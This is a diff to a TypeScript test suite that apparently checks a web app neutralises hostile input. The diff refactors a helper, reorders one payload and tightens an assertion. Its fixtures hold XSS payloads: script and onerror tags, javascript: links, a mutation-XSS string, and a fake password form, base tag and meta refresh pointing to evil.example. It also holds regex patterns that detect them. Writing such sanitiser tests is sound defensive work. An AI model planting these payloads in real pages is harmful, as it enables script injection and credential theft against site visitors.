@@ -12,6 +12,7 @@ const unescaped = (text: string): string =>
     .replaceAll('&gt;', '>')
     .replaceAll('&amp;', '&');
 const tagsOf = (page: string): readonly string[] => page.match(/<[a-z][^>]*>/gi) ?? [];
+const withoutValues = (tag: string): string => tag.replaceAll(/="[^"]*"/g, '=""');
 const attributes = (page: string, names: string): readonly string[] =>
   tagsOf(page).flatMap((tag) =>
     [...tag.matchAll(new RegExp(`\\s(?:${names})="([^"]*)"`, 'gi'))].map(([, value = '']) => unescaped(value)),
@@ -95,9 +96,7 @@ describe('What a visitor brings in the address or in a form comes back as text',
     '{{7*7}}#{7*7}',
   ];
   const isHarmless = (page: string): void => {
-    const tags = tagsOf(page)
-      .map((tag) => tag.replaceAll(/="[^"]*"/g, '=""'))
-      .join('\n');
+    const tags = tagsOf(page).map(withoutValues).join('\n');
     expect(tags).not.toMatch(/\son\w+\s*=|<svg\/|src=x\b/i);
     expect(page).not.toMatch(/<script>alert|<svg\/onload|<img src=x/i);
   };
@@ -150,9 +149,10 @@ describe('What an editor or a foul network puts into the content', () => {
     '<script>alert(1)</script><img src=x onerror=alert(1)><svg><script>alert(1)</script></svg>',
     '<a href="javascript:alert(1)">a</a><a href="java&#10;script:alert(1)">b</a><iframe srcdoc="<script>alert(1)</script>"></iframe>',
     '<p style="position:fixed" onclick="alert(1)" class="account-area">c</p><form action="https://evil.example"><input name="password"></form>',
-    '<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>',
     '<h2 id="__next">d</h2><a id="formToken" name="cookie">e</a><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
     `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}<p>after all that</p>`,
+    // Left open, so it must be the last: it swallows what follows.
+    '<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>',
   ].join('');
   const hostile = (value: unknown, name = ''): unknown => {
     if (Array.isArray(value)) return value.map((each) => hostile(each, name));
@@ -215,7 +215,7 @@ describe('What an editor or a foul network puts into the content', () => {
     expect(answer.body).toContain('after all that');
     const isOurs = (tag: string) => /^<script type="(?:module|application\/ld\+json)"/.test(tag);
     expect(tags.filter((tag) => /^<script/i.test(tag) && !isOurs(tag))).toEqual([]);
-    expect(tags.filter((tag) => /\s(?:on\w+|style|srcdoc|formaction)\s*=/i.test(tag))).toEqual([]);
+    expect(tags.map(withoutValues).filter((tag) => /\s(?:on\w+|style|srcdoc|formaction)\s*=/i.test(tag))).toEqual([]);
     expect(tags.filter((tag) => /^<(?:iframe|object|embed|base|math|style|input name="password")/i.test(tag))).toEqual(
       [],
     );
